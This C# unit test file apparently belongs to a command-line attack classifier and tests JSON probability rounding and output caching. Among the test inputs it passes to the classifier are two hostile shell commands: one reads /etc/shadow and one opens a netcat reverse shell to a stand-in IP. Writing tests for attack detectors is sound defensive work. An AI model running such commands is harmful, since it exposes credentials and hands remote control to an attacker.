using System.Buffers;
using System.Text;
using System.Text.Json;
using AttackClassifier.Classification;
using AttackClassifier.Cli.Commands;
using AttackClassifier.Cli.Output;
using AttackClassifier.Serialization;

namespace AttackClassifier.Tests.Cli;

public class PredictionJsonTests
{
    private static string Json(Action<Utf8JsonWriter> write)
    {
        var bytes = new ArrayBufferWriter<byte>();
        using (var w = new Utf8JsonWriter(bytes, OutputBuffer.WriterOptions)) write(w);
        return Encoding.UTF8.GetString(bytes.WrittenSpan);
    }

    [Theory]
    [InlineData(0.0, "0")]
    [InlineData(1.0, "1")]
    [InlineData(0.5, "0.5")]
    [InlineData(0.9973329115521428, "0.997332912")]
    [InlineData(0.000824410305799605, "0.00082441")]
    [InlineData(0.0006042820356212251, "0.000604282")]
    [InlineData(1e-12, "0")]
    [InlineData(4e-10, "0")]
    [InlineData(6e-10, "0.000000001")]
    [InlineData(0.9999999996, "1")]
    [InlineData(0.1234567895, "0.12345679")]   // p·10⁹ is 123456789.5 exactly: half to even gives …790, its zero dropped
    [InlineData(1.5, "1.5")]                   // not a probability: written as the double it is
    public void Probabilities_are_written_rounded_to_nine_decimals(double p, string expected)
    {
        string json = Json(w =>
        {
            w.WriteStartObject();
            PredictionJson.WriteProbability(w, JsonEncodedText.Encode("p"), p);
            w.WriteEndObject();
        });
        Assert.Equal($"{{\"p\":{expected}}}", json);
        using JsonDocument d = JsonDocument.Parse(json);
        if (p <= 1) Assert.True(Math.Abs(d.RootElement.GetProperty("p").GetDouble() - p) <= 5e-10);
    }

    // The stream's cache of top and top_tactics entries must write exactly what the plain writer path writes.
    [Fact]
    public void Cached_class_json_is_byte_identical_to_the_plain_writer()
    {
        LoadedModel model = ModelFile.Open(Path.Combine(AppContext.BaseDirectory, "Fixtures", "Cli", "sample-lr.acm"));
        string[] commands = File.ReadAllLines(Path.Combine(AppContext.BaseDirectory, "Fixtures", "Cli", "predict-input.txt"))
            .Concat(["cat /etc/shadow", "nc -e /bin/sh 203.0.113.45 4444", "zzz unknown words", "\"quoted\" \\ back\\slash é 😀"]).ToArray();
        var cache = new PredictionJson.ClassJsonCache(OutputBuffer.WriterOptions);
        foreach (int top in new[] { 1, 3, 32 })
        {
            foreach (string command in commands)
            {
                Prediction p = model.Classifier.Predict(command, top);
                string plain = Json(w => { w.WriteStartObject(); PredictionJson.WriteFields(w, p); w.WriteEndObject(); });
                string cached = Json(w => { w.WriteStartObject(); PredictionJson.WriteFields(w, p, cache); w.WriteEndObject(); });
                Assert.Equal(plain, cached);
                using JsonDocument d = JsonDocument.Parse(cached);
                Assert.Equal(Math.Min(top, model.Classifier.Labels.Count), d.RootElement.GetProperty("top").GetArrayLength());
            }
        }
    }
}
